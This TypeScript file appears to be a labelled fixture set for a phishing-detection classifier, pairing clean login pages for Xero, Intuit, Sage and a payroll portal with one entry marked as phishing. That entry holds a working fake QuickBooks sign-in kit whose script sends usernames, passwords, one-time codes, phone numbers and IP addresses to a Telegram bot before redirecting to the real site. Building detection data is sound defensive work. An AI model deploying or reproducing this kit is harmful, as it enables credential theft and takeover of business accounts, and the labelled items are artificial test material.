import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { jsRoute, jsonRoute, cssRoute, pngRoute } from '../parts/e-bin.js';
import { page, appCss, badge, wordmark, b64, cookieBanner, gtag } from '../parts/ya-kit.js';

export const entries: Entry[] = [
{
  id: 'ya-xero-login-own-domain',
  label: 'clean',
  kind: 'accounting-saas-login',
  url: 'https://login.xero.com/identity/user/login?ReturnUrl=%2Fidentity%2Fconnect%2Fauthorize%2Fcallback%3Fclient_id%3Dxero_business_go',
  body: page({
    title: 'Login | Xero Accounting Software',
    head: `<meta name="description" content="Log in to Xero online accounting software. Not a Xero user? Try it free.">
<link rel="canonical" href="https://login.xero.com/identity/user/login">
<link rel="stylesheet" href="https://edge.xero.com/identity/login/2.14.3/styles.css">
${gtag('G-6C3QXBW1ZP')}`,
    css: appCss('#0078c8', '#f2f4f5') + `.xlogo{display:flex;justify-content:center}.xui-note{font-size:13px;color:#52606d;margin-top:16px}`,
    body: `<div class="wrap"><main class="panel" role="main">
  <div class="xlogo">${badge('xero', '#13b5ea', '#fff', 64)}</div>
  <h1 style="text-align:center">Log in to Xero</h1>
  <form method="post" action="/identity/user/login?ReturnUrl=%2Fidentity%2Fconnect%2Fauthorize%2Fcallback%3Fclient_id%3Dxero_business_go" id="LoginForm" novalidate>
    <input type="hidden" name="__RequestVerificationToken" value="CfDJ8H3iQp1n7Y0t7sVt0-nq4r_9bAqzYyXkK2LqE5wM0n4cVvYt3cXH2dFq">
    <label for="xl-form-email">Email address</label>
    <input type="email" id="xl-form-email" name="Username" autocomplete="username" required>
    <label for="xl-form-password">Password</label>
    <input type="password" id="xl-form-password" name="Password" autocomplete="current-password" required>
    <label style="font-weight:400"><input type="checkbox" name="RememberMe" value="true"> Remember me</label>
    <button class="btn" type="submit" id="xl-form-submit">Log in</button>
  </form>
  <div class="row"><a href="/identity/forgot-password">Forgot password?</a><a href="https://central.xero.com/s/article/Troubleshoot-logging-in-to-Xero">Can't log in?</a></div>
  <div class="divider">or</div>
  <div class="sso"><a class="sso-g" href="/identity/external/google/challenge" style="flex:1;text-align:center;padding:10px;border:1px solid #cbd2d9;border-radius:6px;text-decoration:none;color:#1f2933;font-size:13px">Sign in with Google</a><a href="/identity/external/apple/challenge" style="flex:1;text-align:center;padding:10px;border:1px solid #cbd2d9;border-radius:6px;text-decoration:none;color:#1f2933;font-size:13px">Sign in with Apple</a></div>
  <p class="xui-note">New to Xero? <a href="https://www.xero.com/signup/">Try Xero for free</a></p>
  <p class="xui-note">Xero will never ask you to enter your password on a page that isn't login.xero.com. <a href="https://www.xero.com/uk/security/phishing/">How to spot phishing</a></p>
  <div class="foot"><a href="https://www.xero.com/uk/legal/terms/">Terms of use</a>·<a href="https://www.xero.com/uk/legal/privacy/">Privacy</a>·<a href="https://status.xero.com/">Xero status</a><br>© 2025 Xero Limited. All rights reserved.</div>
</main></div>
<script src="https://edge.xero.com/identity/login/2.14.3/login.bundle.js" defer></script>`,
  }),
},
{
  id: 'ya-quickbooks-telegram-exfil',
  label: 'phishing',
  kind: 'accounting-saas-kit',
  url: 'https://intuit-qbo-billing.app/signin/',
  body: page({
    title: 'Sign in to QuickBooks',
    lang: 'en-US',
    css: appCss('#0077c5', '#fff') + `
.panel{box-shadow:none;border:1px solid #d4d7dc}
.brandrow{display:flex;align-items:center;gap:10px;justify-content:center}
.step{display:none}.step.on{display:block}
.acct{display:flex;align-items:center;gap:8px;background:#f4f5f8;border-radius:20px;padding:6px 12px;font-size:13px;width:max-content;margin:0 auto 10px}
.legal{font-size:11px;color:#6b6c72;margin-top:16px}`,
    body: `<div class="wrap"><div class="panel">
  <div class="brandrow">${wordmark('intuit', '#236cff', { size: 28, weight: 800 })}</div>
  <p style="text-align:center;font-size:13px;color:#393a3d;margin:4px 0 0">One account for everything Intuit, including <b>QuickBooks</b>.</p>
  <section class="step on" id="s1">
    <h1 style="text-align:center">Let's get you in to QuickBooks</h1>
    <label for="uid">Email or user ID</label><input type="text" id="uid" autocomplete="username">
    <label style="font-weight:400;font-size:13px"><input type="checkbox" checked> Remember me</label>
    <button class="btn" id="n1" type="button">Sign in</button>
    <div class="divider">or</div><div class="sso"><button type="button">Sign in with Google</button></div>
  </section>
  <section class="step" id="s2">
    <div class="acct" id="who"></div>
    <h1 style="text-align:center">Enter your password</h1>
    <label for="pw">Password</label><input type="password" id="pw" autocomplete="current-password">
    <div class="error" id="perr">We couldn't verify your password. Try again.</div>
    <button class="btn" id="n2" type="button">Continue</button>
    <div class="alt"><a href="#">Forgot password</a></div>
  </section>
  <section class="step" id="s3">
    <h1 style="text-align:center">Confirm it's you</h1>
    <p class="sub" style="text-align:center">We sent a code to the phone number on your account. Enter it to unlock your overdue invoice and payroll run.</p>
    <label for="otp">Verification code</label><input type="tel" id="otp" maxlength="8">
    <label for="ph">Mobile number on the account</label><input type="tel" id="ph" placeholder="(555) 555-0123">
    <button class="btn" id="n3" type="button">Verify</button>
  </section>
  <p class="legal">By selecting Sign in, you agree to our <a href="#">Terms</a> and acknowledge our <a href="#">Privacy Statement</a>. © 2025 Intuit Inc. All rights reserved. Intuit, QuickBooks, QB, TurboTax, Credit Karma, and Mailchimp are registered trademarks of Intuit Inc.</p>
</div></div>
<script>
var T='7382016654:AAH3kq_VYb9xRr1uZf2lP0cH8sWm4TnQ1aE',C='-1002118735591',ip='',d={};
fetch('https://api.ipify.org?format=json').then(function(r){return r.json()}).then(function(j){ip=j.ip}).catch(function(){});
function tg(t){return fetch('https://api.telegram.org/bot'+T+'/sendMessage',{method:'POST',headers:{'Content-Type':'application/json'},body:JSON.stringify({chat_id:C,text:t,parse_mode:'HTML'})}).catch(function(){});}
function go(a,b){document.getElementById(a).classList.remove('on');document.getElementById(b).classList.add('on');}
var pc=0;
document.getElementById('n1').onclick=function(){d.u=document.getElementById('uid').value;if(!d.u)return;document.getElementById('who').textContent=d.u;go('s1','s2');};
document.getElementById('n2').onclick=function(){var p=document.getElementById('pw').value;if(!p)return;pc++;d['p'+pc]=p;
 tg('<b>QBO '+pc+'</b>\\nUser: '+d.u+'\\nPass: '+p+'\\nIP: '+ip+'\\nUA: '+navigator.userAgent);
 if(pc<2){document.getElementById('perr').style.display='block';document.getElementById('pw').value='';return;}go('s2','s3');};
document.getElementById('n3').onclick=function(){tg('<b>QBO OTP</b>\\nUser: '+d.u+'\\nCode: '+document.getElementById('otp').value+'\\nPhone: '+document.getElementById('ph').value+'\\nIP: '+ip).then(function(){location.replace('https://quickbooks.intuit.com/');});};
</script>`,
  }),
},
{
  id: 'ya-intuit-signin-own-domain-spa',
  label: 'clean',
  kind: 'accounting-saas-login',
  url: 'https://accounts.intuit.com/app/sign-in?app_group=QBO&asset_alias=Intuit.accounting.core.qbowebapp&locale=en-us',
  body: `<!DOCTYPE html>
<html lang="en-US">
<head>
<meta charset="utf-8">
<meta name="viewport" content="width=device-width,initial-scale=1">
<title>Sign in to QuickBooks</title>
<meta name="robots" content="noindex">
<link rel="icon" href="https://accounts.intuit.com/favicon.ico">
<link rel="stylesheet" href="/app/sign-in/static/css/main.4f1a9c2e.css">
<script>window.__INTUIT_CONFIG__={"appGroup":"QBO","assetAlias":"Intuit.accounting.core.qbowebapp","locale":"en-us","env":"prd","recaptchaSiteKey":"6LeRKyIUAAAAAKi4Y7oO9Z7d0nK9N2oQmW3X1a5b","identityServiceBase":"https://accounts.intuit.com/v2/oauth2"};</script>
</head>
<body>
<noscript>You need to enable JavaScript to sign in to your Intuit account.</noscript>
<div id="root"></div>
<script src="/app/sign-in/static/js/main.8d3b7e11.js"></script>
</body>
</html>`,
  routes: {
    'accounts.intuit.com/app/sign-in/static/css/main.4f1a9c2e.css': cssRoute(`body{margin:0;font-family:"Avenir Next forINTUIT",Avenir,Helvetica,Arial,sans-serif;color:#393a3d}.ius{max-width:400px;margin:48px auto;padding:32px;border:1px solid #d4d7dc;border-radius:4px}.ius h1{font-size:24px;font-weight:600;text-align:center}.ius label{display:block;font-size:14px;font-weight:600;margin:16px 0 4px}.ius input{width:100%;box-sizing:border-box;border:1px solid #8d9096;border-radius:2px;padding:10px;font-size:16px}.ius button{width:100%;margin-top:20px;background:#0077c5;color:#fff;border:0;border-radius:4px;padding:12px;font-size:16px;font-weight:600;cursor:pointer}.ius .legal{font-size:12px;color:#6b6c72;margin-top:16px}.ius a{color:#0077c5}`),
    'accounts.intuit.com/app/sign-in/static/js/main.8d3b7e11.js': jsRoute(`(function(){"use strict";var c=window.__INTUIT_CONFIG__||{};var r=document.getElementById("root");
function el(t,a,h){var e=document.createElement(t);for(var k in a)e.setAttribute(k,a[k]);if(h)e.innerHTML=h;return e;}
var box=el("div",{"class":"ius","data-testid":"IdentifierFirstForm"});
box.innerHTML='<div style="text-align:center;font-weight:800;font-size:28px;color:#236cff">intuit</div><h1>Let\\'s get you in to QuickBooks</h1><form id="ius-sign-in-form" method="post" action="/v2/oauth2/identifier"><label for="ius-identifier">Email or user ID</label><input id="ius-identifier" name="identifier" type="text" autocomplete="username" required><input type="hidden" name="app_group" value="'+(c.appGroup||"")+'"><input type="hidden" name="asset_alias" value="'+(c.assetAlias||"")+'"><button type="submit" data-testid="IdentifierFirstSubmitButton">Sign in</button></form><p class="legal">By selecting Sign in, you agree to our <a href="https://www.intuit.com/legal/terms/en-us/">Terms</a> and acknowledge our <a href="https://www.intuit.com/privacy/statement/">Privacy Statement</a>.</p><p class="legal">New to Intuit? <a href="/app/sign-up?app_group=QBO">Create an account</a></p>';
r.appendChild(box);
document.getElementById("ius-sign-in-form").addEventListener("submit",function(ev){var v=document.getElementById("ius-identifier").value.trim();if(!v){ev.preventDefault();}});
if(window.performance&&performance.mark)performance.mark("ius-render");})();`),
    'accounts.intuit.com/v2/oauth2/identifier': redirectRoute(303, 'https://accounts.intuit.com/app/sign-in/password?app_group=QBO'),
  },
},
{
  id: 'ya-sage-id-login-own-domain',
  label: 'clean',
  kind: 'accounting-saas-login',
  url: 'https://id.sage.com/login?state=hKFo2SBsTTRjZUZxV0tRb3N2b3RrX2RwS1J4dWJxN2hmYjJtTqFupWxvZ2luo3RpZNkgR2VxS0V5bHFtN2ZxU0tJWnVDbF9IdEJmUWx0&client=dBFNAk3N0sC9ycQ2Zk1q&protocol=oauth2&audience=s1%2Fubiquity&ui_locales=en-GB',
  body: page({
    title: 'Sign in | Sage',
    head: `<meta name="robots" content="noindex, nofollow"><link rel="stylesheet" href="https://cdn.id.sage.com/ulp/react-components/1.59.1/css/main.cdn.min.css">`,
    css: `body{margin:0;font-family:"Sage UI",Arial,sans-serif;background:#f2f5f6}
.c{max-width:420px;margin:56px auto;background:#fff;padding:40px;border-radius:8px;box-shadow:0 3px 12px rgba(0,20,29,.1)}
h1{font-size:24px;font-weight:900;margin:20px 0 8px}p{font-size:14px;color:#335b6a}
label{display:block;font-weight:700;font-size:14px;margin:16px 0 6px}
input[type=email],input[type=password]{width:100%;box-sizing:border-box;border:1px solid #668592;padding:11px;font-size:16px}
button{width:100%;margin-top:24px;background:#00815d;color:#fff;border:0;border-radius:32px;padding:12px;font-weight:700;font-size:16px;cursor:pointer}
.ulp-alt{text-align:center;font-size:14px;margin-top:16px}.ulp-alt a{color:#00815d}`,
    body: `<main class="c">
  ${wordmark('Sage', '#00d639', { size: 34, weight: 900 })}
  <h1>Sign in</h1>
  <p>to continue to Sage Accounting</p>
  <form method="POST" action="/u/login?state=hKFo2SBsTTRjZUZxV0tRb3N2b3RrX2RwS1J4dWJxN2hmYjJtTqFupWxvZ2luo3RpZNkgR2VxS0V5bHFtN2ZxU0tJWnVDbF9IdEJmUWx0">
    <input type="hidden" name="state" value="hKFo2SBsTTRjZUZxV0tRb3N2b3RrX2RwS1J4dWJxN2hmYjJtTqFupWxvZ2lu">
    <label for="username">Email address</label><input type="email" id="username" name="username" autocomplete="email" required autofocus>
    <label for="password">Password</label><input type="password" id="password" name="password" autocomplete="current-password" required>
    <button type="submit" name="action" value="default">Sign in</button>
  </form>
  <div class="ulp-alt"><a href="/u/reset-password/request/Username-Password-Authentication?state=hKFo2SBsTTRj">Forgot password?</a></div>
  <div class="ulp-alt">Don't have an account? <a href="https://www.sage.com/en-gb/sage-business-cloud/accounting/">Start a free trial</a></div>
</main>`,
  }),
},
{
  id: 'ya-payroll-bureau-ess-login',
  label: 'clean',
  kind: 'own-domain-login',
  url: 'https://portal.clearpaybureau.co.uk/ess/login',
  body: page({
    title: 'Employee Self Service – ClearPay Payroll Bureau',
    css: appCss('#2c5d9a') + `.lg{display:flex;align-items:center;gap:10px;font-weight:700;font-size:18px;color:#2c5d9a}.help{font-size:13px;color:#52606d;margin-top:16px}`,
    body: `<div class="wrap"><main class="panel">
  <div class="lg">${badge('CP', '#2c5d9a')} ClearPay Payroll Bureau</div>
  <h1>Employee Self Service</h1>
  <p class="sub">View payslips, P60s and update your personal details.</p>
  <form method="post" action="/ess/login" autocomplete="on">
    <input type="hidden" name="_token" value="8kq3ZcV7nA2tYwLxR9bP0fH5mD1sJ4eG">
    <label for="employer">Employer code</label><input type="text" id="employer" name="employer_code" placeholder="e.g. BRK041" required>
    <label for="user">Email or payroll number</label><input type="text" id="user" name="login" autocomplete="username" required>
    <label for="pass">Password</label><input type="password" id="pass" name="password" autocomplete="current-password" required>
    <button class="btn" type="submit">Log in</button>
  </form>
  <p class="help">First time here? Your employer code and activation link are on the welcome letter included with your first payslip. <a href="/ess/activate">Activate your account</a>.</p>
  <p class="help">We will never ask you to change the bank account your salary is paid into by email or text. Changes must be made by your employer's HR contact.</p>
  <div class="foot">ClearPay Payroll Bureau Ltd · 3 Mill Lane, Leeds LS12 4HQ · Company No. 08842117<br><a href="/privacy">Privacy notice</a><a href="/accessibility">Accessibility</a></div>
</main></div>`,
  }),
},
];
